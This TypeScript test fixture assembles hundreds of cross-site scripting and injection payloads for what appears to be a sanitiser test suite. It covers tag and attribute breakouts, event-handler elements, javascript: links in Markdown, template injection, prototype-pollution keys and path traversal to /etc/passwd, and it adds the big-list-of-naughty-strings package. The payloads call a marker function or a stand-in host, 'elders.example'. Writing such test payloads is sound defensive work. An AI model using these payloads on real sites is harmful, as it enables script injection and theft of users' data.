// What nobody should write and somebody will: the strings of `big-list-of-naughty-strings`, and payloads of our own for what
// this program does with a text: YAML, Markdown, templates, JSON inside a script, attributes, style, frames, search.
// A payload that runs calls `geraakt`, which the test looks at; one that asks for something asks `elders.example`.
import { createRequire } from 'node:module';

const naughty: string[] = createRequire(import.meta.url)('big-list-of-naughty-strings');

/** What each payload calls. */
export const CALL = 'geraakt()';
/** Where each payload asks; nothing answers there. */
export const ELSEWHERE = 'elders.example';
const URL = `//${ELSEWHERE}/x`;

/** Out of an element, a comment, an attribute, a script, a style or a text that only holds text. */
const breaking = [
  '</p>', '</title>', '</script>', '</style>', '</textarea>', '</template>', '</noscript>', '</svg>', '</summary></details>',
  '-->', '--!>', ']]>', '"', "'", '">', "'>", '" x="', '`', '\\"', '&quot;>', '&#34;>', '&#x22;&#x3e;', '<!--', '<![CDATA[',
];
/** What acts once it is out. */
const acting = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg/onload=${CALL}>`,
];
const broken = breaking.flatMap((it, n) => [`${it}${acting[n % 3]}`, `${it}${acting[(n + 1) % 3]}`]);

const elements = [
  `<body onload=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<details open ontoggle=${CALL}>x</details>`,
  `<video><source onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}>`, `<marquee onstart=${CALL}>x</marquee>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`, `<embed src="javascript:${CALL}">`, `<base href="https:${URL}/">`,
  `<meta http-equiv="refresh" content="0;url=https:${URL}">`, `<link rel=stylesheet href="https:${URL}.css">`,
  `<form action="https:${URL}"><button autofocus>x</button></form>`, `<style>@import "https:${URL}";</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<svg><animate onbegin=${CALL} attributeName=x></svg>`, `<svg><use href="https:${URL}.svg#a"/></svg>`,
  `<svg><foreignObject><iframe src="https:${URL}"></iframe></foreignObject></svg>`, `<a href="javascript:${CALL}" id=x>x</a>`,
  `<div style="background:url(https:${URL}.png)">x</div>`, `<p onanimationstart=${CALL} style="animation:x 1s">x</p>`,
  `<x onclick=${CALL}>x</x>`, `<template shadowrootmode=open><script>${CALL}</script></template>`, `<portal src="https:${URL}">`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${CALL}>x</div>`, `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src="https:${URL}.js"></script>`, `<img src="https:${URL}.png">`, `<img srcset="https:${URL}.png 1x">`,
];

const markdown = [
  `[x](javascript:${CALL})`, `[x](JaVaScRiPt:${CALL})`, `[x](java\tscript:${CALL})`, `[x](&#106;avascript:${CALL})`,
  `[x](data:text/html,<script>${CALL}</script>)`, `[x](vbscript:${CALL})`, `[x](<javascript:${CALL}>)`,
  `[x](javascript&colon;${CALL})`, `[x]( javascript:${CALL} )`, `<javascript:${CALL}>`, `[x](\\\\${ELSEWHERE}\\x)`,
  `![x](javascript:${CALL})`, `![x](https:${URL}.png)`, `![x](data:image/svg+xml,<svg/onload=${CALL}>)`, `![x](${URL}.png)`,
  `[x]: javascript:${CALL}`, `[x](https:${URL} "x\\" onmouseover=\\"${CALL}")`, `\`\`\`"onload="${CALL}`, `\`<script>${CALL}</script>\``,
  `# x {#x" onclick="${CALL}}`, `[x](begrip:<script>${CALL}</script>)`, `[x](contact:"onclick=${CALL})`, `[^"><script>${CALL}</script>]`,
  `<https:${URL}">`, `|<script>${CALL}</script>|`, `> [!"onload=${CALL}]`, `**<b onclick=${CALL}>**`, `<!-- x --!><script>${CALL}</script>`,
];

/** Texts that templates, scripts, styles, JSON and addresses would read as theirs. */
const languages = [
  `{{ ${CALL} }}`, '{{ 7 * 191 }}', '{% raw %}{% endraw %}', '{% include "basis.html" %}', '{# x #}', `\${${CALL}}`, `#{${CALL}}`,
  `<%= ${CALL} %>`, `{{constructor.constructor('${CALL}')()}}`, `"};${CALL};//`, `'];${CALL};//`, '\\u003cscript\\u003e',
  '\u2028', '\u2029', `\\";${CALL};//`, `"}</script><script>${CALL}</script>`, '__proto__', 'constructor', 'toString', 'hasOwnProperty',
  '__defineGetter__', '$&', '$`', "$'", '$1', '%s%n', '../../../etc/passwd', '..%2f..%2f', '//', `;}body{background:url(https:${URL})}`,
  `expression(${CALL})`, `url(javascript:${CALL})`, '@import "x";', '/*', '*/', '#', '?', '&', '&lt;', '&amp;lt;', '<', '>', '<a', '</', '<!', '<?',
  'file:///etc/passwd', `javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`, 'tel:+31;ext=<script>', '\u202egnidiel',
  '\ufeff', '\u200b', '\u0000', '\u001b]0;x\u0007', '\ufffe', 'é\u0301'.repeat(40), 'x'.repeat(4000), '<'.repeat(200), '[' .repeat(200), '> '.repeat(80),
];

/** Payloads of our own. */
export const own = [...broken, ...elements, ...markdown, ...languages];

/** All strings, each once. A text of the list that is no text at all, such as an empty one, is left out. */
export const strings = [...new Set([...own, ...naughty])].filter((it) => it.trim() && !/\p{Cs}/u.test(it));
